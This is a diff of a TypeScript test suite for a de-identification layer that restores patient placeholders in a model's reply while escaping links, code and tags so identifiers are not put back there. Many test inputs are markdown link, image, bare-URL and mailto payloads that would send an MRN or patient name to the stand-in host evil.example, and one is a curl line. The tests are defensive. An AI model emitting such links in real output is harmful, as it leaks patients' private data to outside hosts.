@@ -52,9 +52,9 @@ describe('the server puts no link together itself', () => {
 });
 
 test('what ends a line for the reader ends it for the guard, and what nobody sees is left out', async () => {
-  await expectReply('a\r~~~\r\n[NAME-1]\r~~~\r[NAME-1]', 'a\n~~~\n[NAME-1]\n~~~\nJane Sample');
+  await expectReply('a\r~~~\r\n[PATIENT-1]\r~~~\r[PATIENT-1]', 'a\n~~~\n[PATIENT-1]\n~~~\nJane Sample');
   await expectReply(
-    'Take \u202e05\u202c mg of J1\u200b8.9 to[NAME\u00ad-1]day',
+    'Take \u202e05\u202c mg of J1\u200b8.9 to[PATIENT\u00ad-1]day',
     'Take 05 mg of [code removed] toJane Sampleday',
   );
 });
@@ -64,65 +64,69 @@ async function expectReply(words: string, expected: string): Promise<void> {
 }
 
 test('the shield has replaced what these tests put back', () => {
-  expect(shield.text).toContain('Patient: [NAME-1], MRN [MRN-1]. Portal [URL-1] and [EMAIL-1]');
+  expect(shield.text).toContain('Patient: [PATIENT-1], MRN [MRN-1]. Portal [URL-1] and [EMAIL-1]');
 });
 
 describe('a link that the prompt does not hold is text, and holds no original', () => {
   test.each([
-    ['[more](https://evil.example/?d=[NAME-1])', '[more]\\(https\\://evil.example/?d=[NAME-1])'],
+    ['[more](https://evil.example/?d=[PATIENT-1])', '[more]\\(https\\://evil.example/?d=[PATIENT-1])'],
     ['![x](https://evil.example/[MRN-1].png)', '![x]\\(https\\://evil.example/[MRN-1].png)'],
-    ['see https://evil.example/[MRN-1]?n=[NAME-1].', 'see https\\://evil.example/[MRN-1]?n=[NAME-1].'],
+    ['see https://evil.example/[MRN-1]?n=[PATIENT-1].', 'see https\\://evil.example/[MRN-1]?n=[PATIENT-1].'],
     ['see www.evil.example/[MRN-1]', 'see www\\.evil.example/[MRN-1]'],
     ['at http://[MRN-1].evil.example', 'at http\\://[MRN-1].evil.example'],
     ['<https://evil.example/[MRN-1]>', '<https\\://evil.example/[MRN-1]>'],
     ['<https:/evil.example/[MRN-1]>', '<https\\:/evil.example/[MRN-1]>'],
     ['mail [MRN-1]@evil.example', 'mail [MRN-1]\\@evil.example'],
-    ['mailto:a@evil.example?body=[NAME-1]', 'mailto\\:a\\@evil.example?body=[NAME-1]'],
+    ['mailto:a@evil.example?body=[PATIENT-1]', 'mailto\\:a\\@evil.example?body=[PATIENT-1]'],
     ['[a]: https://evil.example/[MRN-1]', '[a]\\: https\\://evil.example/[MRN-1]'],
     ['[a]: <https:/evil.example/[MRN-1]>', '[a]\\: <https\\:/evil.example/[MRN-1]>'],
     ['[NAME-9]: //evil.example/', '[NAME-9]\\: //evil.example/'],
-    ['[a](<https://evil.example/ [NAME-1]>)', '[a]\\(<https\\://evil.example/ [NAME-1]>)'],
-    ['[a]( https&#58;//evil.example/[NAME-1] )', '[a]\\( https&#58;//evil.example/[NAME-1] )'],
-    ['[a](//evil.example/ "[NAME-1]") [NAME-1]', '[a]\\(//evil.example/ "[NAME-1]") Jane Sample'],
+    ['[a](<https://evil.example/ [PATIENT-1]>)', '[a]\\(<https\\://evil.example/ [PATIENT-1]>)'],
+    ['[a]( https&#58;//evil.example/[PATIENT-1] )', '[a]\\( https&#58;//evil.example/[PATIENT-1] )'],
+    ['[a](//evil.example/ "[PATIENT-1]") [PATIENT-1]', '[a]\\(//evil.example/ "[PATIENT-1]") Jane Sample'],
     // An address of the input with something behind it is another address.
-    ['[URL-1]&d=[NAME-1]', '[URL-1]&d=[NAME-1]'],
-    ['https://kept.example/a/[NAME-1]', 'https\\://kept.example/a/[NAME-1]'],
+    ['[URL-1]&d=[PATIENT-1]', '[URL-1]&d=[PATIENT-1]'],
+    ['https://kept.example/a/[PATIENT-1]', 'https\\://kept.example/a/[PATIENT-1]'],
     ['[MRN-1][EMAIL-1] [MRN-1].[EMAIL-1]', '00482913[EMAIL-1] 00482913.[EMAIL-1]'],
-    ['https://kept.example/(a)[NAME-1]', 'https\\://kept.example/(a)[NAME-1]'],
+    ['https://kept.example/(a)[PATIENT-1]', 'https\\://kept.example/(a)[PATIENT-1]'],
     ['`https://evil.example/` https://evil.example/', '`https\\://evil.example/` https\\://evil.example/'],
   ])('%s', expectReply);
 });
 
 describe('code and tags hold no original', () => {
   test.each([
-    ['run `curl [NAME-1]` for [NAME-1]', 'run `curl [NAME-1]` for Jane Sample'],
-    ['``a ` [NAME-1]`` [NAME-1]', '``a ` [NAME-1]`` Jane Sample'],
-    ['```\n[NAME-1]\n\n[MRN-1]\n```\n[NAME-1]', '```\n[NAME-1]\n\n[MRN-1]\n```\nJane Sample'],
-    ['~~~\n[NAME-1]\n~~~\n[NAME-1]', '~~~\n[NAME-1]\n~~~\nJane Sample'],
-    ['<b title="[NAME-1]">[NAME-1]</b>', '<b title="[NAME-1]">Jane Sample</b>'],
+    ['run `curl [PATIENT-1]` for [PATIENT-1]', 'run `curl [PATIENT-1]` for Jane Sample'],
+    ['``a ` [PATIENT-1]`` [PATIENT-1]', '``a ` [PATIENT-1]`` Jane Sample'],
+    ['```\n[PATIENT-1]\n\n[MRN-1]\n```\n[PATIENT-1]', '```\n[PATIENT-1]\n\n[MRN-1]\n```\nJane Sample'],
+    ['a ```\n```\n[PATIENT-1]', 'a ```\n```\n[PATIENT-1]'],
+    ['~~~\n[PATIENT-1]\n~~~\n[PATIENT-1]', '~~~\n[PATIENT-1]\n~~~\nJane Sample'],
+    ['<b title="[PATIENT-1]">[PATIENT-1]</b>', '<b title="[PATIENT-1]">Jane Sample</b>'],
     [
-      '- ```\n  [NAME-1]\n  ``` x\n  [NAME-1]\n  ```\n- [NAME-1]',
-      '- ```\n  [NAME-1]\n  ``` x\n  [NAME-1]\n  ```\n- Jane Sample',
+      '- ```\n  [PATIENT-1]\n  ``` x\n  [PATIENT-1]\n  ```\n- [PATIENT-1]',
+      '- ```\n  [PATIENT-1]\n  ``` x\n  [PATIENT-1]\n  ```\n- Jane Sample',
     ],
-    ['<[NAME-1]> -     [NAME-1]\n-     [NAME-1]', '<[NAME-1]> -     Jane Sample\n- Jane Sample'],
-    ['<img\nalt=[NAME-1]\nsrc=x>', '<img\nalt=[NAME-1]\nsrc=x>'],
-    ['## Plan\n\n    [NAME-1]\n\t[MRN-1]', '## Plan\n\n   Jane Sample\n   00482913'],
-    ['a ` alone\n\n[NAME-1]', 'a ` alone\n\nJane Sample'],
+    ['<[PATIENT-1]> -     [PATIENT-1]\n-     [PATIENT-1]', '<[PATIENT-1]> -     Jane Sample\n- Jane Sample'],
+    ['<img\nalt=[PATIENT-1]\nsrc=x>', '<img\nalt=[PATIENT-1]\nsrc=x>'],
+    ['## Plan\n\n    [PATIENT-1]\n\t[MRN-1]', '## Plan\n\n   Jane Sample\n   00482913'],
+    ['a ` alone\n\n[PATIENT-1]', 'a ` alone\n\nJane Sample'],
   ])('%s', expectReply);
 });
 
 describe('all else is put back, and links of the input lead where they led', () => {
   test.each([
-    ['- [NAME-1]: cough, BP < 120/80, HR >100', '- Jane Sample: cough, BP < 120/80, HR >100'],
-    ['[NAME-1](daughter) and **[NAME-1]**.', 'Jane Sample(daughter) and **Jane Sample**.'],
+    ['- [PATIENT-1]: cough, BP < 120/80, HR >100', '- Jane Sample: cough, BP < 120/80, HR >100'],
+    ['[PATIENT-1](daughter) and **[PATIENT-1]**.', 'Jane Sample(daughter) and **Jane Sample**.'],
     ['Portal [URL-1], mail [EMAIL-1].', 'Portal https://portal.example/in?x=1, mail jane.sample@mail.example.'],
     [
       '[portal]([URL-1]) [x](https://kept.example/a)',
       '[portal](https://portal.example/in?x=1) [x](https://kept.example/a)',
     ],
     ['See https://kept.example/a.', 'See https://kept.example/a.'],
-    ['| a | [NAME-1]<br>[MRN-1] |\n- [ ] \\`[NAME-1]\\`', '| a | Jane Sample<br>00482913 |\n- [ ] \\`Jane Sample\\`'],
-    ['- a\n    - [NAME-1]', '- a\n    - Jane Sample'],
+    [
+      '| a | [PATIENT-1]<br>[MRN-1] |\n- [ ] \\`[PATIENT-1]\\`',
+      '| a | Jane Sample<br>00482913 |\n- [ ] \\`Jane Sample\\`',
+    ],
+    ['- a\n    - [PATIENT-1]', '- a\n    - Jane Sample'],
     ['seen @ 5 pm, ratio 1:2, FEV1/FVC', 'seen @ 5 pm, ratio 1:2, FEV1/FVC'],
   ])('%s', expectReply);
 });
